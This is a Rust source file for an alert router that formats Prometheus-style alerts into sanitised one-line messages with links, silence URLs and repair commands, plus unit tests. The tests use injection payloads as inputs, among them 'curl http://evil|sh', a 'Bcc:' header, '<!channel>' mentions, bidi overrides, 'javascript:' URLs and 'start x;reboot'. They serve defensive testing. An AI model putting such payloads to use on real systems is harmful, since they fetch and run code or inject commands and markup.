//! What people are told, before it takes the form of Slack or mail: what broke, where, since when, and what repairs it.
//!
//! Everything here is plain text of one line each, of bounded length, with nothing left that could break out of a line.

use std::{
    cmp::Reverse,
    collections::{BTreeMap, BTreeSet},
    time::Duration,
};

use jiff::Timestamp;

use crate::{
    alert::{Alert, Fingerprint, Pairs, since},
    core::{Notification, Status},
    repair::RepairCommands,
    template::go_quoted,
};

/// Alerts that are all described. Where there are more, a digest names them all and the worst are described.
const MAX_ITEMS: usize = 10;
const MAX_ITEMS_OF_DIGEST: usize = 5;
/// Kinds of alerts in a digest, and places of each.
const MAX_KINDS: usize = 20;
const MAX_PLACES: usize = 12;
/// Characters of a text; of a label.
const MAX_TEXT: usize = 1000;
const MAX_LABEL: usize = 200;
/// Labels that say where something is, in the order in which people look for them.
const PLACES: [&str; 8] = [
    "instance",
    "instance_id",
    "role",
    "zone",
    "job",
    "cluster",
    "environment",
    "name",
];

/// Labels that describe where something is and are not needed to tell it from others: who silences an alert means it after the machine
/// was replaced, too.
const NOT_SILENCED: [&str; 5] = ["environment", "instance_id", "role", "severity", "zone"];

/// A message.
#[derive(Debug, PartialEq, Eq)]
pub(crate) struct Message {
    pub(crate) status: Status,
    /// `[FIRING:2] AgentDown on node-1`.
    pub(crate) title: String,
    /// The worst of the firing alerts; empty when none says.
    pub(crate) severity: String,
    /// All alerts by their kinds, the worst first, when they are many.
    pub(crate) digest: Vec<Kind>,
    /// Kinds that are not there.
    pub(crate) more_kinds: usize,
    /// The page that shows what fires, for a digest.
    pub(crate) all: Option<String>,
    pub(crate) items: Vec<Item>,
    /// Alerts that are not among the items.
    pub(crate) more: usize,
}

/// Alerts of one name.
#[derive(Debug, PartialEq, Eq)]
pub(crate) struct Kind {
    pub(crate) count: usize,
    /// `LedgerDown (firing, critical)`.
    pub(crate) head: String,
    /// `ledger-1, ledger-2 and 3 more`; empty when none says where.
    pub(crate) places: String,
}

/// An alert.
#[derive(Debug, PartialEq, Eq)]
pub(crate) struct Item {
    pub(crate) status: Status,
    pub(crate) name: String,
    pub(crate) severity: String,
    /// Names and values of labels that say where.
    pub(crate) place: Vec<(String, String)>,
    /// What was measured, where the alert's annotation `value` says it.
    pub(crate) value: String,
    pub(crate) since: String,
    /// When it ended, and after how long; empty while it fires.
    pub(crate) until: String,
    pub(crate) summary: String,
    pub(crate) description: String,
    /// What the link says, and a URL of http or https.
    pub(crate) links: Vec<(&'static str, String)>,
    /// The line to paste.
    pub(crate) command: Option<String>,
}

impl Message {
    /// `external_url` is where people reach alert-router, without a slash at its end; empty when nobody said.
    pub(crate) fn new(told: &Notification, commands: &RepairCommands, external_url: &str) -> Self {
        let firing = told
            .alerts
            .iter()
            .filter(|(_, _, status)| *status == Status::Firing)
            .count();
        let status = if firing > 0 {
            Status::Firing
        } else {
            Status::Resolved
        };
        // What fires comes before what is over, the worst first, and is described when not all are.
        let mut alerts: Vec<_> = told.alerts.iter().collect();
        alerts.sort_by_key(|it| (it.2, Reverse(rank(severity(&it.1)))));
        let is_digest = alerts.len() > MAX_ITEMS;
        let (digest, more_kinds) = if is_digest {
            kinds(&alerts)
        } else {
            (Vec::new(), 0)
        };
        let items = alerts.into_iter().take(if is_digest {
            MAX_ITEMS_OF_DIGEST
        } else {
            MAX_ITEMS
        });
        let items: Vec<_> = items
            .map(|(_, alert, status)| Item::new(alert, *status, commands, external_url))
            .collect();
        let severities = told.alerts.iter().filter(|it| it.2 == status);
        let severities = severities.map(|(_, alert, _)| severity(alert));
        let severity = severities.max_by_key(|it| rank(it)).unwrap_or("");
        Self {
            status,
            title: title(told, status, firing),
            severity: line(severity, MAX_LABEL),
            digest,
            more_kinds,
            all: is_digest
                .then(|| link(&format!("{external_url}/")))
                .flatten(),
            more: told.alerts.len().saturating_sub(items.len()),
            items,
        }
    }
}

/// The digest of alerts that are in their order, and how many kinds are not in it.
fn kinds(alerts: &[&(Fingerprint, Alert, Status)]) -> (Vec<Kind>, usize) {
    let (mut order, mut kinds) = (Vec::new(), BTreeMap::<_, (usize, BTreeSet<&str>)>::new());
    for (_, alert, status) in alerts {
        let key = (*status, alert.name(), severity(alert));
        let (count, places) = kinds.entry(key).or_insert_with(|| {
            order.push(key);
            Default::default()
        });
        *count += 1;
        places.extend(alert.labels.get("instance").map(String::as_str));
    }
    let all = order.len();
    let kinds = order.into_iter().take(MAX_KINDS).filter_map(|key| {
        let (count, places) = kinds.get(&key)?;
        let more = places.len().saturating_sub(MAX_PLACES);
        let named = places.iter().take(MAX_PLACES);
        let named: Vec<_> = named.map(|it| line(it, MAX_LABEL)).collect();
        let mut text = named.join(", ");
        if more > 0 {
            text.push_str(&format!(" and {more} more"));
        }
        Some(Kind {
            count: *count,
            head: head(&line(key.1, MAX_LABEL), key.0, &line(key.2, MAX_LABEL)),
            places: line(&text, MAX_TEXT),
        })
    });
    (kinds.collect(), all.saturating_sub(MAX_KINDS))
}

/// `LedgerDown (firing, critical)`.
fn head(name: &str, status: Status, severity: &str) -> String {
    let name = if name.is_empty() { "Alert" } else { name };
    let severity = if severity.is_empty() {
        String::new()
    } else {
        format!(", {severity}")
    };
    format!("{name} ({}{severity})", status.as_str())
}

fn severity(alert: &Alert) -> &str {
    alert.labels.get("severity").map_or("", String::as_str)
}

impl Item {
    fn new(alert: &Alert, status: Status, commands: &RepairCommands, external_url: &str) -> Self {
        let annotation = |name: &str| alert.annotations.get(name).map_or("", String::as_str);
        let label = |name: &str| alert.labels.get(name).map_or("", String::as_str);
        let places = PLACES.iter().filter(|it| !label(it).is_empty());
        let resolved = status == Status::Resolved;
        // What is over needs no silence.
        let silence = (!resolved).then(|| silence_link(alert, external_url));
        let links = [
            ("Runbook", annotation("runbook_url")),
            ("Dashboard", annotation("dashboard")),
            ("Prometheus", alert.generator_url.as_str()),
            ("Silence", silence.flatten().as_deref().unwrap_or("")),
        ]
        .map(|(text, url)| (text, url.to_owned()));
        Self {
            status,
            name: line(alert.name(), MAX_LABEL),
            severity: line(severity(alert), MAX_LABEL),
            place: places
                .map(|it| ((*it).to_owned(), line(label(it), MAX_LABEL)))
                .collect(),
            value: line(annotation("value"), MAX_LABEL),
            since: time(alert.starts_at),
            until: if resolved {
                let lasted = span(since(alert.ends_at, alert.starts_at));
                format!("{}, after {lasted}", time(alert.ends_at))
            } else {
                String::new()
            },
            summary: line(annotation("summary"), MAX_TEXT),
            description: line(annotation("description"), MAX_TEXT),
            links: links
                .into_iter()
                .filter_map(|(text, url)| Some((text, link(&url)?)))
                .collect(),
            // What is over needs no repair.
            command: if resolved {
                None
            } else {
                commands.line(annotation("repair"), &alert.labels)
            },
        }
    }

    /// `AgentDown (firing, critical)`.
    pub(super) fn head(&self) -> String {
        head(&self.name, self.status, &self.severity)
    }

    /// What was measured, since when, and until when.
    pub(super) fn facts(&self) -> impl Iterator<Item = (&'static str, &str)> {
        let facts = [
            ("value", &self.value),
            ("since", &self.since),
            ("until", &self.until),
        ];
        let facts = facts.into_iter().filter(|it| !it.1.is_empty());
        facts.map(|(name, text)| (name, text.as_str()))
    }
}

/// The page that silences an alert: what it shows is to be sent yet.
fn silence_link(alert: &Alert, external_url: &str) -> Option<String> {
    let mut url = client::Url::parse(&format!("{external_url}/silences/new")).ok()?;
    let labels = alert.labels.iter();
    let labels = labels.filter(|it| !NOT_SILENCED.contains(&it.0.as_str()));
    let matchers: Vec<_> = labels
        .map(|(name, value)| format!("{name}={}", go_quoted(value)))
        .collect();
    let filter = format!("{{{}}}", matchers.join(","));
    url.query_pairs_mut().append_pair("filter", &filter);
    Some(url.into())
}

/// Higher is worse.
fn rank(severity: &str) -> u8 {
    match severity {
        "critical" => 3,
        "warning" => 2,
        "info" => 1,
        _ => 0,
    }
}

/// `[FIRING:2] AgentDown on node-1`: all names when they are few, the worst first; the place when it is one.
fn title(told: &Notification, status: Status, firing: usize) -> String {
    let alerts = told.alerts.iter().map(|it| &it.1);
    let mut worst = BTreeMap::new();
    for alert in alerts.filter(|it| !it.name().is_empty()) {
        let rank = rank(severity(alert));
        let its = worst.entry(alert.name()).or_insert(rank);
        *its = rank.max(*its);
    }
    let mut names: Vec<&str> = worst.keys().copied().collect();
    names.sort_by_key(|it| Reverse(worst.get(it)));
    let more = names.len().saturating_sub(3);
    names.truncate(3);
    let mut text = match status {
        Status::Firing => format!("[FIRING:{firing}] "),
        Status::Resolved => "[RESOLVED] ".to_owned(),
    };
    text.push_str(&names.join(", "));
    if names.is_empty() {
        let labels: Pairs = told.group_labels.clone();
        let labels: Vec<_> = labels
            .iter()
            .map(|(name, value)| format!("{name}={value}"))
            .collect();
        text.push_str(if labels.is_empty() { "alerts" } else { "" });
        text.push_str(&labels.join(" "));
    }
    if more > 0 {
        text.push_str(&format!(" and {more} more"));
    }
    let mut places = told
        .alerts
        .iter()
        .map(|(_, alert, _)| alert.labels.get("instance"));
    if let Some(Some(first)) = places.next()
        && places.all(|it| it == Some(first))
    {
        text.push_str(&format!(" on {first}"));
    } else if told.alerts.len() > MAX_ITEMS {
        let places = told.alerts.iter();
        let places = places.filter_map(|(_, alert, _)| alert.labels.get("instance"));
        let places = places.collect::<BTreeSet<_>>().len();
        if places > 1 {
            text.push_str(&format!(" on {places} instances"));
        }
    }
    line(&text, MAX_LABEL)
}

/// One line of at most `max` characters: whatever controls or breaks lines becomes a space.
pub(super) fn line(text: &str, max: usize) -> String {
    let breaks = |it: char| {
        it.is_control()
            || matches!(it, '\u{2028}' | '\u{2029}')
            // Marks that turn the direction of text around.
            || matches!(it, '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}')
    };
    let mut out = String::new();
    let mut count = 0;
    for word in text
        .split(|it: char| breaks(it) || it == ' ')
        .filter(|it| !it.is_empty())
    {
        if count > 0 {
            out.push(' ');
            count += 1;
        }
        for character in word.chars() {
            if count + 1 >= max {
                out.push('…');
                return out;
            }
            out.push(character);
            count += 1;
        }
    }
    out
}

/// A URL that a person may click: http or https, written so that nothing in it ends a link.
fn link(url: &str) -> Option<String> {
    const MAX: usize = 2000;
    let url = client::Url::parse(url).ok()?;
    let wanted = matches!(url.scheme(), "http" | "https") && url.has_host();
    let text = url.to_string();
    let text = text
        .replace('|', "%7C")
        .replace('\'', "%27")
        .replace('`', "%60");
    (wanted && text.len() <= MAX && !text.contains(['<', '>', '"', ' '])).then_some(text)
}

/// `2026-11-24 10:13:05 UTC`.
fn time(time: Timestamp) -> String {
    time.strftime("%Y-%m-%d %H:%M:%S UTC").to_string()
}

/// `2d 3h`, `55m 55s`: the two largest units.
fn span(lasted: Duration) -> String {
    let seconds = lasted.as_secs();
    let units = [
        (seconds / 86_400, 'd'),
        (seconds / 3600 % 24, 'h'),
        (seconds / 60 % 60, 'm'),
        (seconds % 60, 's'),
    ];
    let first = units.iter().position(|it| it.0 > 0).unwrap_or(3);
    let shown = units.iter().skip(first).take(2);
    let shown = shown.enumerate().filter(|(at, it)| *at == 0 || it.0 > 0);
    let shown: Vec<_> = shown.map(|(_, it)| format!("{}{}", it.0, it.1)).collect();
    shown.join(" ")
}

#[cfg(test)]
pub(super) mod tests {
    use std::sync::Arc;

    use super::{Message, line, link, span};
    use crate::{
        alert::{Alert, Pairs},
        config::{Integration, Kind, WebhookSettings},
        core::{Notification, Status},
        repair::RepairCommands,
    };

    pub(crate) fn pairs<const N: usize>(pairs: [(&str, &str); N]) -> Pairs {
        pairs
            .map(|(name, value)| (name.to_owned(), value.to_owned()))
            .into()
    }

    fn alert(labels: Pairs, annotations: Pairs, status: Status) -> Alert {
        Alert {
            labels,
            annotations,
            starts_at: "2026-01-02T03:04:05Z".parse().unwrap(),
            ends_at: if status == Status::Resolved {
                "2026-01-02T04:00:00Z"
            } else {
                "2026-01-03T00:00:00Z"
            }
            .parse()
            .unwrap(),
            generator_url: "http://prometheus.example:9090/graph?g0.expr=up&g0.tab=1".to_owned(),
        }
    }

    pub(crate) const ROUTER: &str = "https://router.example:9093";

    pub(crate) fn commands() -> RepairCommands {
        RepairCommands::new(pairs([("start", "provisioner local start {program}")])).unwrap()
    }

    /// What the goldens of all forms are made from, by name.
    pub(crate) fn notifications() -> Vec<(&'static str, Notification)> {
        let good = alert(
            pairs([
                ("alertname", "AgentDown"),
                ("severity", "critical"),
                ("instance", "node-1"),
                ("instance_id", "i-0abc"),
                ("role", "cassandra"),
                ("zone", "a"),
                ("program", "node-exporter"),
            ]),
            pairs([
                ("summary", "node-exporter on node-1 does not answer"),
                ("description", "It has not been scraped for 30 s."),
                ("runbook_url", "https://example.com/runbooks/AgentDown"),
                (
                    "dashboard",
                    "https://grafana.example/d/x?var-instance=node-1",
                ),
                ("repair", "start node-exporter"),
            ]),
            Status::Firing,
        );
        let resolved = Alert {
            ends_at: "2026-01-02T04:00:00Z".parse().unwrap(),
            ..good.clone()
        };
        let evil = "<!channel> <b>x</b> `y` *z* & \"q\" 'r'\r\nBcc: a@b\n<https://evil|ok> \u{202e}x; curl http://evil|sh";
        let hostile = alert(
            pairs([
                ("alertname", evil),
                ("severity", evil),
                ("instance", evil),
                ("role", "x; curl …|sh"),
            ]),
            pairs([
                ("summary", evil),
                ("description", evil),
                ("runbook_url", "javascript:alert(1)"),
                ("dashboard", "https://x/|<!channel>\"'`"),
                ("repair", "start x;reboot"),
            ]),
            Status::Firing,
        );
        let long = "x".repeat(10_000);
        let huge = alert(
            pairs([("alertname", &long), ("instance", &long)]),
            pairs([("summary", &long), ("description", &long)]),
            Status::Firing,
        );
        let bare = alert(pairs([("service", "api")]), Pairs::new(), Status::Firing);
        let many = |count: usize| -> Vec<Alert> {
            (0..count)
                .map(|it| {
                    alert(
                        pairs([
                            ("alertname", "HostCpuHigh"),
                            ("severity", "warning"),
                            ("instance", &format!("node-{it:02}")),
                        ]),
                        pairs([("summary", "busy")]),
                        Status::Firing,
                    )
                })
                .collect()
        };
        [
            ("firing", vec![good.clone()]),
            ("resolved", vec![resolved.clone()]),
            ("both", [vec![good], many(1), vec![resolved]].concat()),
            ("hostile", vec![hostile]),
            ("huge", vec![huge]),
            ("bare", vec![bare]),
            ("many", many(37)),
        ]
        .into_iter()
        .map(|(name, alerts)| {
            let now = "2026-01-02T05:00:00Z".parse().unwrap();
            let alerts = alerts
                .into_iter()
                .map(|it| {
                    let status = crate::core::status_of(it.ends_at <= now);
                    (crate::alert::Fingerprint::of(&it.labels), it, status)
                })
                .collect();
            let integration = Integration {
                receiver: "team".to_owned(),
                index: 0,
                send_resolved: true,
                kind: Kind::Webhook(WebhookSettings {
                    max_alerts: 0,
                    ..WebhookSettings::default()
                }),
            };
            let told = Notification {
                id: 1,
                integration: Arc::new(integration),
                group_key: "{}:{alertname=\"AgentDown\"}".to_owned(),
                group_labels: pairs([("alertname", "AgentDown")]),
                alerts,
                attempt: 1,
                route_labels: Pairs::new(),
                reason: "",
                memory: std::collections::BTreeMap::new(),
            };
            (name, told)
        })
        .collect()
    }

    #[test]
    fn titles() {
        let found: Vec<_> = notifications()
            .iter()
            .map(|(name, told)| {
                format!(
                    "{name}: {}",
                    Message::new(told, &commands(), ROUTER)
                        .title
                        .chars()
                        .take(100)
                        .collect::<String>()
                )
            })
            .collect();
        let expect = [
            "firing: [FIRING:1] AgentDown on node-1",
            "resolved: [RESOLVED] AgentDown on node-1",
            "both: [FIRING:2] AgentDown, HostCpuHigh",
            "hostile: [FIRING:1] <!channel> <b>x</b> `y` *z* & \"q\" 'r' Bcc: a@b <https://evil|ok> x; curl http://evil|sh o",
        ];
        assert_eq!(found[..4], expect);
        assert_eq!(found[5], "bare: [FIRING:1] alertname=AgentDown");
        assert_eq!(found[6], "many: [FIRING:37] HostCpuHigh on 37 instances");
    }

    #[test]
    fn lines() {
        for (text, max, expect) in [
            ("a\nb\r\n c\u{0}d", 100, "a b c d"),
            ("  ", 100, ""),
            ("abcdef", 4, "abc…"),
            ("é é é", 5, "é é …"),
            ("a\u{2028}b\u{202e}c", 100, "a b c"),
        ] {
            assert_eq!(line(text, max), expect);
        }
    }

    #[test]
    fn spans() {
        for (seconds, expect) in [
            (0, "0s"),
            (59, "59s"),
            (60, "1m"),
            (3355, "55m 55s"),
            (3600, "1h"),
            (3605, "1h"),
            (90_061, "1d 1h"),
            (1_000_000, "11d 13h"),
        ] {
            let lasted = std::time::Duration::from_secs(seconds);
            assert_eq!(span(lasted), expect);
        }
    }

    #[test]
    fn links() {
        for (url, expect) in [
            (
                "https://a.example/x?y=1#z",
                Some("https://a.example/x?y=1#z"),
            ),
            ("http://a/|b'c`", Some("http://a/%7Cb%27c%60")),
            ("http://a/<b>\"", Some("http://a/%3Cb%3E%22")),
            ("javascript:alert(1)", None),
            ("data:text/html,x", None),
            ("//a/b", None),
            ("", None),
        ] {
            assert_eq!(link(url).as_deref(), expect, "{url}");
        }
    }
}
